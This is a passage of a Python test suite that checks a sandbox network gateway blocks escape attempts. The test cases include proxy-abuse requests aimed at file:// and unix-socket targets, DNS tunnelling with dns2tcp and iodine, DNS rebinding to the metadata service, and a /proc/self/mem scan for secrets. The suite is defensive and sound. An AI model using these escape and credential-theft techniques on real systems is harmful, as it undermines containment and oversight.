                 'name(b"allowed.test", cmd=3)': unsupported,
                 'name(b"allowed.test", cmd=2)': unsupported, 'name(b"allowed.test", port=22)': refused,
                 'name(b"allowed.test", port=0)': refused,
                 'ask(9, b"abcd")': "050005080001000000000000 closed",
                 'name(b"allowed.test", version=4)': "050005010001000000000000 closed",
                 'socks(b"\\4\\1\\1\\xbb\\0\\0\\0\\1x\\0other.test\\0")': " reset",
                 'socks(b"\\5\\1\\2")': "05ff closed", 'socks(b"\\5\\0")': "05ff closed",
                 'socks(b"\\5\\1\\0", b"\\5\\1\\0\\3\\xffallowed.test")': "0500 closed"}
        self.attack(ONLY, cases, """
def ask(kind, data, port=443, cmd=1, version=5): return socks(b"\\5\\1\\0", bytes([version, cmd, 0, \
kind]) + data + struct.pack(">H", port))
def name(n, **kw): return ask(3, bytes([len(n)]) + n, **kw)
def address(a): return ask(4 if ":" in a else 1, socket.inet_pton(family(a), a))
""")
        self.nothing_left(reached=[], may=())
        self.row("N15", "socks", "SOCKS reply 2 (not allowed)", "7 (command)", "8 (address type)", "reset (SOCKS4)")

    def test_N16_relay(self):
        got = self.inside(ONLY, """
def relay(listener):
    while True:
        c, _ = listener.accept()
        s = socket.create_connection(("198.18.0.1", 3128), T)
        for a, b in ((c, s), (s, c)): threading.Thread(target=carry, args=(a, b), daemon=True).start()
def carry(a, b):
    try:
        while (data := a.recv(65536)): b.sendall(data)
        b.shutdown(socket.SHUT_WR)
    except OSError: b.close()
listener = socket.create_server(("127.0.0.1", 8888))
threading.Thread(target=relay, args=(listener,), daemon=True).start()
asks = ["CONNECT other.test:443 HTTP/1.0\\r\\n\\r\\n", \
"GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", "CONNECT 10.77.0.10:80 HTTP/1.0\\r\\n\\r\\n"]
direct = [say("198.18.0.1", 3128, a) for a in asks]
r, w = os.pipe()
if os.fork() == 0:
    os.write(w, json.dumps([say("127.0.0.1", 8888, a) for a in asks]).encode()); os._exit(0)
os.wait()
tell(direct, json.loads(os.read(r, 65536)))
""")
        self.assertEqual(got[0], got[1])
        self.assertEqual(got[0], [get("other.test", "default deny", 443), get("other.test", "default deny"),
                                  get(PRIVATE[0], is_what(PRIVATE[0]))])
        self.nothing_left(reached=[], may=())
        self.row("N16", "relay", got[0][0])

    def test_N31_proxy_abuse(self):
        wants = "400 brig: :: is denied: this is a proxy: it wants an http:// target, or CONNECT"
        malformed = "400 brig: :: is denied: a malformed request target"
        cases = {PROXY % f'b"GET {target} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"': outcome for target,
                 outcome in (
                     ("/", wants), ("https://allowed.test/", wants), ("file:///etc/passwd", malformed),
                     ("ftp://allowed.test/", malformed), ("gopher://allowed.test:70/", malformed),
                     ("unix:///run/brig.sock", malformed), ("http+unix://%2Frun%2Fbrig.sock/", malformed),
                     ("http:allowed.test/", malformed), ("//allowed.test/", wants))}
        cases[PROXY % 'b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Unix-Socket: '
              '/run/x\\r\\n\\r\\n"'] = "400 brig: :: is denied: x-unix-socket"
        cases[PROXY % 'b"CONNECT unix:/run/x:80 HTTP/1.0\\r\\n\\r\\n"'] = malformed
        cases[PROXY
              % 'b"CONNECT allowed.test HTTP/1.0\\r\\n\\r\\n"'] = "400 brig: :: is denied: CONNECT wants host:port"
        cases[PROXY % 'b"CONNECT allowed.test:22 HTTP/1.0\\r\\n\\r\\n"'] = ("403 brig: allowed.test:22 is denied: "
                                                                            "default deny; rule 0 (allow "
                                                                            "allowed.test:80,443) does not match")
        outcomes = self.attack(ONLY, cases)
        self.nothing_left(reached=[], may=())
        self.row("N31", "unix-proxy-sock", *outcomes)

    # ---- names ----

    def test_N21_dns_direct(self):
        servers = ("8.8.8.8", "127.0.0.1", "127.0.0.53", DNS, "2001:4860:4860::8888", "::1", "10.0.0.1", "192.168.88.1")
        long = ".".join(["a" * 63] * 3) + ".allowed.test"
        cases = {**{f'dns("other.test", server="{s}")': "REFUSED" for s in servers},
                 **{f'dns("allowed.test", server="{s}") == F': True for s in servers},
                 **{f'dns("allowed.test", "{k}")': "NOERROR empty"
                    for k in ("TXT", "NULL", "MX", "SRV", "CNAME", "NS", "HTTPS", "NAPTR")},
                 **{f'dns("data.other.test", "{k}")': "REFUSED"
                    for k in ("TXT", "NULL", "MX", "SRV", "CNAME", "A", "AAAA", "HTTPS", "ANY")},
                 'dns("allowed.test", "ANY")': "REFUSED", 'dns("allowed.test", "AXFR")': "REFUSED",
                 'dns("version.bind", "TXT", klass=3)': "REFUSED", 'dns("allowed.test", klass=255)': "REFUSED",
                 f'dns("{long}")': "REFUSED", 'dns("secret.allowed.test")': "REFUSED",
                 'dns("allowed.test.other.test")': "REFUSED", 'dns("localhost")': "REFUSED", 'dns("127.1")': "REFUSED",
                 'dns("allowed.test", count=2)': "FORMERR", 'dns("allowed.test", count=0)': "FORMERR",
                 'dns("allowed.test", flags=0x2100)': "NOTIMP",
                 'dns_tcp(question("allowed.test", count=2))': ["FORMERR"],
                 'dns_tcp(question("allowed.test"), question("other.test"), server="8.8.8.8") == [F, "REFUSED"]': True,
                 'dns_tcp(question("allowed.test") + question("other.test"))': ["FORMERR"],
                 'dns("allowed.test", more=opt(8, b"\\0\\1\\x20\\0data"), additional=1) == F': True,
                 'dns("other.test", more=opt(8, b"\\0\\1\\x20\\0data"), additional=1)': "REFUSED",
                 'dns("other.test", more=opt(65001, b"d" * 400), additional=1)': "REFUSED",
                 'say("8.8.8.8", 853)': "ECONNREFUSED", 'say("1.1.1.1", 5353)': "ECONNREFUSED",
                 'udp("8.8.8.8", 853, question("allowed.test"))': "ECONNREFUSED",
                 'udp("8.8.8.8", 5353, question("allowed.test"))': "ECONNREFUSED",
                 'udp("224.0.0.251", 5353, question("allowed.test"))': "EINVAL",
                 'udp("224.0.0.252", 5355, b"x")': "EINVAL",
                 'udp("255.255.255.255", 53, question("allowed.test"))': "EINVAL",
                 'udp("ff02::fb%lo", 5353, b"x")': "EINVAL",
                 'tls("1.1.1.1", "cloudflare-dns.com")': "reset", 'tls("8.8.8.8", "dns.google")': "reset",
                 'tls("1.1.1.1", "allowed.test")': "reset", 'look_up("dns.google")': "EAI_AGAIN",
                 'get("1.1.1.1", "allowed.test", path="/dns-query?dns=AAAB")': get("1.1.1.1", "default deny")}
        self.attack(ONLY, cases, 'F = dns("allowed.test")\n'
                    'def opt(c, d): return b"\\0" + struct.pack(">HHIHHH", 41, 4096, 0, 4 + len(d), c, len(d)) + d')
        self.nothing_left(reached=[], may=())  # not even the allowed name was asked outside: nobody dialled it
        self.row("N21", "dns-direct", "REFUSED (rcode)", "FORMERR", "NOTIMP", "ECONNREFUSED (853, 5353)",
                 "EINVAL (multicast)", "reset (DoH)")

    def dns2tcp(self):
        """A server of it outside, and what its client says to it from the host."""
        config = os.path.join(NET.dir, "dns2tcpd")
        with open(config, "w", encoding="ascii") as f:
            f.write(f"listen = {OTHER}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = t.other.test\n"
                    f"resources = web:{OTHER}:80\n")
        server = NET.there.popen("dns2tcpd", "-F", "-f", config, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL)
        self.addCleanup(server.wait)
        self.addCleanup(server.kill)
        said = []

        def ask():
            client = NET.here.popen("timeout", "5", "dns2tcpc", "-z", "t.other.test", OTHER, stdin=subprocess.DEVNULL,
                                    stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            said[:] = [client.communicate()[0].decode()]
            return "web" in said[0]

        wait_until("dns2tcp works where there is no gate", ask)
        return said[0]

    def test_N21_tunnels(self):
        """dns2tcp and iodine as their clients speak, by hand; and the clients themselves where they are installed."""
        cases = {'dns("AAAAAAAAAAAAAAA.auth.t.other.test", "TXT")': "REFUSED",
                 'dns("AAAAAAAAAAAAAAA.auth.allowed.test", "TXT")': "REFUSED",
                 'dns("vaaaakardli.t.other.test", "NULL")': "REFUSED",
                 'dns("yrbbba.t.other.test", "NULL")': "REFUSED", 'dns("zaaAbBcC123.allowed.test", "TXT")': "REFUSED",
                 'dns("vaaaakardli.allowed.test", 65399)': "REFUSED",
                 'dns("v\\xe0\\xe1\\xe2\\xfd.allowed.test", "NULL")': "FORMERR"}
        self.attack(ONLY, cases)
        if shutil.which("dns2tcpc", path=PATH):
            self.assertIn("web", self.dns2tcp())  # from the host it works: the client finds what the server offers
            self.capture.stop()
            self.capture = Capture(NET.here)
            done = self.d.run(self.box(ONLY), "timeout", "20", "dns2tcpc", "-z", "t.other.test", OTHER)
            self.assertEqual(done["outcome"]["exit_code"], 255, done)
            self.row("N21", "dns2tcp", " ".join(done["stderr"].split()))
        if shutil.which("iodine", path=PATH):  # wants root and a tun device besides; its questions are above
            done = self.d.run(self.box(ONLY), "timeout", "20", "/usr/sbin/iodine", "-f", "-r", OTHER, "t.other.test")
            self.assertEqual(done["outcome"]["exit_code"], 2, done)
            self.row("N21", "iodine", done["stderr"].splitlines()[0])
        self.nothing_left(reached=[], may=())
        self.row("N21", "dns-tunnel", "REFUSED (rcode)")

    def test_N22_dns_rebind(self):
        turns, answers = [], ([PUBLIC], ["127.0.0.1"], [PRIVATE[0]], [PUBLIC], ["169.254.169.254"], ["::1"],
                              [PRIVATE[0], PUBLIC])

        def zone(kind):
            if kind == 1:
                turns.append(0)
            return answers[(len(turns) - 1) % len(answers)]

        NET.zone["rebind.test"] = zone
        policy = {"rules": [{"action": "allow", "domain": "rebind.test"}]}
        got = self.inside(policy, 'tell(*[get("rebind.test", path="/%d" % i) for i in range(21)])')
        good = [g for g in got if g.startswith("200 allowed GET rebind.test")]
        bad = [g for g in got if g not in good]
        self.assertTrue(good and bad, got)
        for said in bad:  # every answer that is not public, every time
            self.assertRegex(said, "^403 brig: rebind.test:80 is denied: (127.0.0.1 is loopback|10.77.0.10 is "
                             "private|169.254.169.254 is metadata service|::1 is loopback), and no cidr rule names it$")
        self.assertEqual(set(NET.reached), {("allowed", 80)})
        self.nothing_left(seen=[f"rebind.test {g.split()[-1]}" for g in good], asked=["rebind.test"], may=(DNS, PUBLIC))
        self.row("N22", "dns-rebind", *sorted(set(bad))[:2])

    def test_N24_cname_chain(self):
        rules = [{"action": "allow", "domain": n} for n in ("chain.test", "inner.test", "astray.test")]
        policy = {"rules": rules
                  + [{"action": "deny", "cidr": OTHER + "/32"}, {"action": "deny", "cidr": OTHER6 + "/128"}]}
        got = self.inside(policy, 'tell(get("chain.test"), get("inner.test"), tls("chain.test", "chain.test"), '
                          'get("astray.test"), dns("third.test"), dns("other.test"))')
        self.assertEqual(got[:3],
                         [get("chain.test", is_what(PRIVATE[0])), get("inner.test", is_what(PRIVATE[0])), "reset"])
        self.assertRegex(got[3], r"^403 brig: astray.test:80 is denied: rule [34] \(deny ")  # by where it leads
        self.assertEqual(got[4:], ["REFUSED", "REFUSED"])  # what is allowed is the name, not what it is an alias of
        self.nothing_left(reached=[], asked=["chain.test", "inner.test", "astray.test"], may=(DNS,))
        self.row("N24", "cname-chain", got[0], got[3])

    def test_N25_redirect_chain(self):
        outcomes = []
        for to, status in (("http://169.254.169.254/latest", "403"), ("http://other.test/", "6"),
                           (f"http://{OTHER}/", "403"), ("http://metadata.google.internal/", "6"),
                           (f"http://{OTHER}:8080/", "7"), ("https://10.77.0.10/", "cut"), ("file:///etc/passwd", "1"),
                           ("gopher://allowed.test:80/_x", "1")):
            code, said = self.curl(ONLY, "-k", "-L", "-o", "/tmp/out", "-w", "%{http_code}",
                                   f"http://allowed.test/redirect?to={to}")
            if status == "403":
                self.assertEqual((code, said[-3:]), (0, "403"), to)
            else:
                self.assertIn(code, {"6": (6,), "7": (7,), "cut": (7, 35), "1": (1,)}[status], to)
            outcomes.append("403" if status == "403" else f"curl {code}")
        self.assertEqual({s[2].split("?")[0] for s in NET.seen}, {"/redirect"})
        self.assertEqual(set(NET.reached), {("allowed", 80)})
        self.nothing_left(seen=[f"{s[1]} {s[2]}" for s in NET.seen], asked=["allowed.test"])
        self.row("N25", "redirect-chain", *outcomes)

    # ---- other sockets ----

    def test_N27_netlink(self):
        setup = """
def change(kind, body, flags=0x605):
    s = socket.socket(16, 3, 0)
    s.settimeout(T)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    return errno.errorcode.get(-struct.unpack("=i", s.recv(4096)[16:20])[0], "done")
def dump(kind):
    s = socket.socket(16, 3, 0)
    s.settimeout(T)
    s.send(struct.pack("=IHHII", 32, kind, 0x301, 1, 0) + bytes(16))
    return struct.unpack("=H", s.recv(65536)[4:6])[0]
"""
        others = {f"sock(16, 3, {p})": "EPROTONOSUPPORT" for p in range(1, 23)}
        cases = {**others, "change(16, bytes(16))": "EPERM",
                 "change(17, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 0))": "EPERM",
                 "change(16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1))": "EPERM",
                 "change(20, struct.pack('=BBBBI', 2, 8, 0, 0, 1) + struct.pack('=HH4s', 8, 2, b'\\x0a\\0\\0\\1'))":
                 "EPERM", "change(24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0))": "EPERM",
                 "change(25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 0, 254, 2, 0), 5)": "EPERM",
                 "change(32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0))": "EPERM",
                 "change(36, bytes(20))": "EPERM", "socket.if_nameindex() == [(1, 'lo')]": True, "dump(18)": 16,
                 "attempt(socket.socket().setsockopt, 0, 19, 1)": "EPERM",
                 "attempt(socket.socket().setsockopt, 1, 36, 7)": "EPERM", "sock(2, 3, 255)": "EPERM"}
        for policy in (ONLY, "open", "none"):
            self.attack(policy, cases, setup)
        self.nothing_left(reached=[], may=())
        self.row("N27", "netlink", "EPROTONOSUPPORT", "EPERM (NEWLINK, NEWADDR, NEWROUTE, DELROUTE, NEWRULE)")

    def test_N28_port_bind(self):
        setup = """
def bind(ip, port, kind=1, *options):
    s = socket.socket(family(ip), kind)
    for o in options: s.setsockopt(1, o, 1)
    try: s.bind((ip, port)); kind == 1 and s.listen(); return "bound"
    except OSError as e: return word(e)
    finally: s.close()
"""
        ports = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": [80, 8443]}]}
        where = ("0.0.0.0", "127.0.0.1", "198.18.0.1", "203.0.113.10", "::", "::1", "::ffff:127.0.0.1")
        options = ("", ", 2", ", 15", ", 2, 15")  # SO_REUSEADDR, SO_REUSEPORT
        cases = {f'bind("{ip}", {port}, {kind}{o})': "EACCES" for ip in where for port,
                 kind in ((53, 1), (53, 2), (80, 1), (443, 1)) for o in options}
        # a port of the policy, above 1023
        cases.update({f'bind("{ip}", 8443, 1{o})': "EADDRINUSE" for ip in where for o in options})
        cases.update({f'bind("{ip}", 3128, 1{o})': "EADDRINUSE" for ip in ("0.0.0.0", "198.18.0.1", "::")
                      for o in options})
        cases['bind("127.0.0.1", 8000)'] = "bound"
        outcomes = self.attack(ports, cases, setup)
        # what listens inside is nobody's outside: neither the host's nor another sandbox's
        answer = self.d.ask("POST", f"/v1/sandboxes/{self.box(ports)}/processes",
                            {"argv": ["/usr/bin/python3", "-I", "-c", "import socket, time\n"
                                                "s = [socket.create_server(('0.0.0.0', p)) for p in (8001, 8002)]\n"
                                      "print('up', flush=True)\ntime.sleep(1000)"]})
        self.assertEqual(answer.status, 201, answer)
        wait_until("it listens", lambda: self.inside(ports, 'tell(attempt(dial, "127.0.0.1", 8001))') == ["done"])
        self.attack(ONLY, {'say("127.0.0.1", 8001)': "ECONNREFUSED", 'say("203.0.113.1", 8001)': "ECONNREFUSED"})

        def from_the_host():
            with socket.socket() as s:
                return s.connect_ex(("127.0.0.1", 8001))

        self.assertEqual(NET.here.inside(from_the_host), 111)
        self.capture.stop()  # that was us
        self.row("N28", "port-bind", *outcomes[:2], "ECONNREFUSED (from outside)")

    def test_N30_icmp_udp_quic(self):
        cases = {f'udp("{ip}", {port}, b"x" * 1200)': "ECONNREFUSED"
                 for ip in (PUBLIC, "198.19.0.0", PUBLIC6, "127.0.0.1", DNS) for port in (443, 123, 9, 3128)}
        cases.update({f'udp("{ip}", 9, b"x")': "EINVAL" for ip in ("224.0.0.1", "255.255.255.255")})
        cases.update({f"sock{args}": outcome for args, outcome in (
            ((2, 2, 1), "EACCES"), ((10, 2, 58), "EACCES"), ((2, 3, 1), "EPERM"), ((2, 3, 255), "EPERM"),
            ((10, 3, 58), "EPERM"), ((17, 3, 3), "EAFNOSUPPORT"), ((17, 2, 3), "EAFNOSUPPORT"),
            ((40, 1, 0), "EAFNOSUPPORT"), ((2, 1, 132), "EPROTONOSUPPORT"), ((2, 5, 132), "ESOCKTNOSUPPORT"),
            ((2, 1, 262), "EPROTONOSUPPORT"), ((2, 2, 136), "EPROTONOSUPPORT"),
            ((38, 5, 0), "EAFNOSUPPORT"), ((21, 5, 0), "EAFNOSUPPORT"), ((44, 3, 0), "EAFNOSUPPORT"),
            ((29, 3, 1), "EAFNOSUPPORT"), ((31, 3, 0), "EAFNOSUPPORT"), ((30, 1, 0), "EAFNOSUPPORT"),
            ((43, 1, 0), "EAFNOSUPPORT"), ((2, 6, 33), "ESOCKTNOSUPPORT"))})
        outcomes = self.attack(ONLY, cases)
        self.attack("open", cases)
        self.nothing_left(reached=[], may=())
        self.row("N30", "icmp-udp-quic", *outcomes)

    # ---- credentials ----

    SPEND = """
import urllib.request, urllib.error
def spend(url, token, header="Authorization"):
    r = urllib.request.Request(url, headers={header: "Bearer " + token})
    try: return urllib.request.urlopen(r, timeout=T).read().decode()
    except urllib.error.HTTPError as e: return str(e.code) + " " + e.read().decode()
    except OSError as e: return "failed " + str(e)
"""

    def test_N33_credential_broker(self):
        network, secrets = self.brokered("API", "allowed.test")
        got = self.inside(network, self.SPEND + """
token = os.environ["TOKEN"]
memory = b""
echoed = spend("https://allowed.test/echo?its", token)
other, plain = spend("http://other.test/echo?other", token), spend("https://other.test/echo?tls", token)
clear = spend("http://allowed.test/echo?clear", token)
elsewhere = spend("https://allowed.test/echo?header", token, "X-Other")
query = spend("https://allowed.test/echo?query=" + token, "x")
for line in open("/proc/self/maps"):
    where, mode = line.split()[:2]
    if "r" in mode and "[v" not in line:
        a, b = (int(x, 16) for x in where.split("-"))
        with open("/proc/self/mem", "rb", 0) as f:
            f.seek(a)
            try: memory += f.read(b - a)
            except OSError: pass
half = b"s3cr3t-value-of-" + b"the-test-0123"
tell(token=token, echoed=echoed, other=other, plain=plain, clear=clear, elsewhere=elsewhere, \
found=memory.count(half + b"456789"), environ=dict(os.environ))
""", secrets=secrets)
        self.assertTrue(got["token"].startswith("brig-secret-"), got)
        self.assertNotIn(VALUE, json.dumps(got))
        self.assertIn("Authorization: Bearer ", got["echoed"])
        self.assertEqual(got["found"], 0)
        by = {path.split("?")[1]: h.get("X-Other") or h["Authorization"] for _, _, path, h, _ in NET.seen}
        # by TLS to exactly this host, in this header, and nowhere else
        self.assertEqual(by.pop("its"), f"Bearer {VALUE}")
        self.assertEqual(by.pop("query=" + got["token"]), "Bearer x")
        self.assertEqual(by, {path: f"Bearer {got['token']}" for path in ("other", "tls", "clear", "header")})
        self.assertNotIn(VALUE, self.d.text())
        self.row("N33", "credential-broker", "placeholder " + got["token"][:16] + "...", "scrubbed echo",
                 "plain HTTP gets the placeholder")

    def test_N34_token_of_another(self):
        network, secrets = self.brokered("MINE", "allowed.test")
        theirs = self.inside(network, 'tell(os.environ["TOKEN"])', secrets=secrets)[0]
        without = self.inside(network, self.SPEND + f'tell(spend("https://allowed.test/echo", "{theirs}"))')[0]
        self.assertIn(theirs, without)  # a placeholder, and nothing else
        _, mine = self.brokered("SECOND", "allowed.test")
        replayed = self.inside(network, self.SPEND
                               + f'tell(spend("https://allowed.test/echo", "{theirs}"), os.environ["TOKEN"])',
                               secrets=mine)
        self.assertNotEqual(replayed[1], theirs)
        self.assertFalse([h for *_, h, _ in NET.seen if VALUE in json.dumps(h)],
                         "another sandbox's placeholder was worth something")
        # the proxy knows nobody: what decides is whose namespace it is
        got = self.inside(ONLY, 'tell(' + ", ".join(PROXY % f'b"CONNECT other.test:443 HTTP/1.0\\r\\n{auth}\\r\\n"'
                                                    for auth in ("", "Proxy-Authorization: Basic YTpi\\r\\n")) + ')')
        self.assertEqual(got, [get("other.test", "default deny", 443)] * 2)
        self.row("N34", "token-theft", "the placeholder stays one", got[0])


@unittest.skipUnless(IS_ROOT, "needs root to make network namespaces")
class Root(Rows, unittest.TestCase):
    KIND = "root"


@unittest.skipUnless(IS_ROOT, "needs root to make network namespaces")
class Rootless(Rows, unittest.TestCase):
    KIND, USER = "rootless", PLAIN_ID


if __name__ == "__main__":
    unittest.main()
